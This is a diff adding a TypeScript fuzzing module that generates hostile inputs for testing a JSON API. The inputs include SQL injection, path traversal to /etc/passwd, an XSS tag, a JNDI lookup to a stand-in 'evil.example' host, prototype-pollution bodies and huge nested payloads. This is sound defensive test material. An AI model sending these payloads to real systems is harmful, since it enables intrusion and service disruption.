@@ -1,0 +1,197 @@
+import fc from 'fast-check';
+import { type Field, isRequired, type Kind, kinds } from './schema.ts';
+
+/* Where attacks come from. The seed is fixed, so that a failure of one run is the failure of every run. */
+
+/** As many runs as a whole family can afford; the seed and the smallest failing input stand in the failure. */
+export const runs = (numRuns: number): fc.Parameters<unknown> => ({ seed: 20_261_201, numRuns });
+
+const MEGABYTE = 1024 * 1024;
+
+/** What JSON.parse would take, but no object with it may pass: refused as broken, whatever else it holds. */
+const poisoned = /__proto__|constructor/;
+const json = fc.jsonValue({ maxDepth: 3 }).filter((value) => !poisoned.test(JSON.stringify(value)));
+
+const oddIntegers = [0, -0, -1, 2 ** 31, 2 ** 53, -(2 ** 63), 1e21, 1e300];
+
+const ofKind: Record<Kind, fc.Arbitrary<unknown>> = {
+  absent: fc.constant(undefined),
+  null: fc.constant(null),
+  boolean: fc.boolean(),
+  integer: fc.oneof(fc.integer(), fc.constantFrom(...oddIntegers)),
+  fraction: fc.double({ noInteger: true, noNaN: true, noDefaultInfinity: true }),
+  string: fc.string({ unit: 'binary' }),
+  array: fc.array(json, { maxLength: 5 }),
+  object: fc.dictionary(fc.string(), json).filter((value) => !poisoned.test(JSON.stringify(value))),
+};
+
+const wrongValue = ({ takes, values }: Field): fc.Arbitrary<unknown> => {
+  const wrong = kinds.filter((kind) => !takes.has(kind)).map((kind) => ofKind[kind]);
+  return values
+    ? fc.oneof(
+        ...wrong,
+        ofKind.string.filter((value) => !values.includes(value)),
+      )
+    : fc.oneof(...wrong);
+};
+
+/** Some of the fields, at least one, with a value of a kind that each of them cannot take; a required one may be missing. */
+export const wrongFields = (fields: readonly Field[]): fc.Arbitrary<Record<string, unknown>> =>
+  fc
+    .subarray([...fields], { minLength: 1 })
+    .chain((chosen) => fc.record(Object.fromEntries(chosen.map((field) => [field.name, wrongValue(field)]))));
+
+export const required = (fields: readonly Field[]) => fields.filter(isRequired);
+
+/** Marks that may stand in no text: NUL and its kin, halves of a surrogate pair, overrides of the direction. */
+const forbiddenMarks = ['\0', '\x07', '\x1b[2J', '\x7f', '\x85', '\ud800', '\udfff', '\u202e', '\u2066'];
+
+/** A text that looks like `valid`, with a mark in it that no text may have. */
+export const spoilt = (valid: string): fc.Arbitrary<string> =>
+  fc
+    .tuple(fc.constantFrom(...forbiddenMarks), fc.nat(valid.length))
+    // Not at an end: white space and its kin are trimmed there.
+    .map(([mark, at]) => `${valid.slice(0, at)}x${mark}x${valid.slice(at)}`);
+
+/** Texts that are merely strange: nothing has them, but nothing may break over them either. */
+export const strange = fc.oneof(
+  fc.constantFrom(
+    '',
+    ' ',
+    "' OR 1=1 --",
+    '"; DROP TABLE accounts; --',
+    '$1',
+    '%',
+    '_',
+    '\\',
+    '../../../../etc/passwd',
+    '..\\..\\windows\\win.ini',
+    'file:///etc/passwd',
+    '<script>alert(1)</script>',
+    '{{7*7}}',
+    '\u0024{jndi:ldap://evil.example/a}',
+    'NaN',
+    'Infinity',
+    '1e999',
+    '-1',
+    '0x10',
+    '１２３',
+    'null',
+    'undefined',
+    'true',
+    '[object Object]',
+    '__proto__',
+    'constructor',
+    'toString',
+    '𠮷'.repeat(50),
+    '👨‍👩‍👧‍👦',
+    'Z̸̛̝a̷l̵g̶o̷',
+    '\ufeffx',
+    'İstanbul',
+    'ﷺ'.repeat(60),
+  ),
+  fc.string({ unit: 'grapheme' }),
+  fc.string({ unit: 'binary' }),
+);
+
+/** Texts that look like whole numbers of a page, and are none. */
+export const noNumbers = [
+  '',
+  ' ',
+  '0',
+  '-1',
+  '+1',
+  '1.0',
+  '1e1',
+  '0x10',
+  '1 ',
+  ' 1',
+  '１',
+  'NaN',
+  'Infinity',
+  'null',
+  'true',
+  '[]',
+  '1,2',
+  '9'.repeat(10),
+  '9'.repeat(400),
+  '1\0',
+] as const;
+
+/** Pieces of addresses, properly encoded, wrongly encoded, or not at all. */
+export const rawAddress = fc
+  .array(
+    fc.constantFrom(
+      ...['%00', '%0a', '%0d%0a', '%20', '%ff', '%c0%80', '%c0%ae', '%ed%a0%80', '%f4%90%80%80', '%zz', '%'],
+      ...['%2f', '%5c', '%2e%2e', '..', '.', ';', '+', '!', "'", '(', '*', ':', '@', '~', ',', '-', 'a', '1'],
+      ...['%E6%80%A5', '%E6%80', 'TPE-CPR-0001', '__proto__', 'constructor'],
+    ),
+    { minLength: 1, maxLength: 8 },
+  )
+  .map((pieces) => pieces.join(''));
+
+/** Pieces of query strings, likewise. */
+export const rawQuery = (names: readonly string[]): fc.Arbitrary<string> =>
+  fc
+    .array(
+      fc.oneof(rawAddress, fc.constantFrom('&', '=', '==', '&&', '[]', '[0]', '[a][b]', '?', ...names)),
+      {
+        maxLength: 12,
+      },
+    )
+    .map((pieces) => pieces.join(''));
+
+/** Bodies that are too large for any call that takes JSON. */
+export const tooLarge = (): readonly [string, string][] => [
+  ['a text of a megabyte', JSON.stringify({ code: 'x'.repeat(MEGABYTE), account: 'x' })],
+  ['a megabyte of white space', `${' '.repeat(MEGABYTE)}{}`],
+  ['objects within objects', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
+];
+
+/** Bodies that are no JSON. */
+export const brokenJson: readonly [string, string | Buffer][] = [
+  ['an open brace', '{'],
+  ['a cut value', '{"code":'],
+  ['a cut text', '{"code":"TPE'],
+  ['a missing brace', '{"account":"A","password":"B"'],
+  ['one brace too many', '{"code":"A"}}'],
+  ['single quotes', "{'code':'A'}"],
+  ['no quotes', '{code:1}'],
+  ['a comma at the end', '{"code":"A",}'],
+  ['a comment', '{"code":"A"/**/}'],
+  ['a form', 'code=A&account=B'],
+  ['NaN', '{"code":NaN}'],
+  ['undefined', 'undefined'],
+  ['a hexadecimal number', '{"code":0x10}'],
+  ['a zero in front', '{"code":012}'],
+  ['a raw line break in a text', '{"code":"A\nB"}'],
+  ['a NUL', '\0'],
+  ['a NUL after JSON', '{}\0'],
+  ['UTF-16', Buffer.from('{"code":"A"}', 'utf16le')],
+  ['gzip', Buffer.from('1f8b0800000000000003ab5602000000ffff', 'hex')],
+  ['two documents', '{} {}'],
+  ['brackets without end', '['.repeat(100_000)],
+  ['a poisoned prototype', '{"__proto__":{"state":true}}'],
+  ['a poisoned prototype, escaped', '{"\\u005f_proto__":{"state":true}}'],
+  ['a poisoned constructor', '{"constructor":{"prototype":{"state":true}}}'],
+];
+
+/** JSON whose field holds something monstrous, but small enough to be read. */
+export const monsters: readonly [string, (field: string) => string][] = [
+  [
+    '100,000 arrays within each other',
+    (field) => `{"${field}":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
+  ],
+  [
+    '40,000 objects within each other',
+    (field) => `{"${field}":${'{"":'.repeat(40_000)}1${'}'.repeat(40_000)}}`,
+  ],
+  ['an array of 100,000', (field) => `{"${field}":[${'0,'.repeat(99_999)}0]}`],
+  [
+    'an object of 20,000 fields',
+    (field) => `{"${field}":{${Array.from({ length: 20_000 }, (_, n) => `"${n}":0`).join()}}}`,
+  ],
+  ['a number beyond all numbers', (field) => `{"${field}":1e999}`],
+  ['a number of 1,000 digits', (field) => `{"${field}":${'9'.repeat(1000)}}`],
+  ['a negative zero', (field) => `{"${field}":-0}`],
+];
